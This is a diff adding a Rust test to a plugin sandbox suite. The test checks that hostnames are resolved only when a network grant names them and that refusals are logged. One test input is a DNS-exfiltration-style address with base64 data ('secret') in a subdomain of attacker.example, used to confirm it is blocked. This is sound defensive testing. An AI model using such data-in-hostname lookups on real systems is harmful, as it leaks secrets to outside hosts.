@@ -652,6 +652,53 @@ async fn network_is_closed_unless_the_host_port_is_granted() {
 }
 
 #[tokio::test]
+async fn only_granted_names_are_resolved_and_the_rest_never_reach_dns() {
+    let (port, server) = reply_server().await;
+    // No grant: a name made of data is refused before any lookup, and the refusal is logged.
+    let sink = MemorySink::new();
+    let err = attack(
+        &logged(&sink),
+        "connect",
+        json!({"addr": "c2VjcmV0.attacker.example:80"}),
+    )
+    .await
+    .unwrap_err();
+    assert!(matches!(plugin_failure(err), PluginFailure::Failed(_)));
+    assert_eq!(
+        notices(&sink),
+        ["network: refused to resolve `c2VjcmV0.attacker.example`: no network grant names it"]
+    );
+    // A grant by name lets that name resolve (and only that one).
+    let grant: NetworkGrant = format!("localhost:{port}").parse().unwrap();
+    let sink = MemorySink::new();
+    let inv = Invocation::new(Grants::none().network(grant)).log(Arc::new(sink.clone()));
+    let versions = attack(
+        &inv,
+        "connect",
+        json!({"addr": format!("localhost:{port}")}),
+    )
+    .await
+    .unwrap();
+    assert_eq!(versions[0].get("connected"), Some("true"));
+    let err = attack(
+        &inv,
+        "connect",
+        json!({"addr": format!("example.org:{port}")}),
+    )
+    .await
+    .unwrap_err();
+    assert!(matches!(plugin_failure(err), PluginFailure::Failed(_)));
+    assert!(
+        notices(&sink)
+            .iter()
+            .any(|n| n.contains("refused to resolve `example.org`")),
+        "{:?}",
+        notices(&sink)
+    );
+    server.abort();
+}
+
+#[tokio::test]
 async fn only_granted_environment_variables_are_visible() {
     // The host process has PATH, HOME and more; the plugin must see only the granted one.
     let inv = Invocation::new(Grants::none().env("DEPLOY_ENV", "staging"));
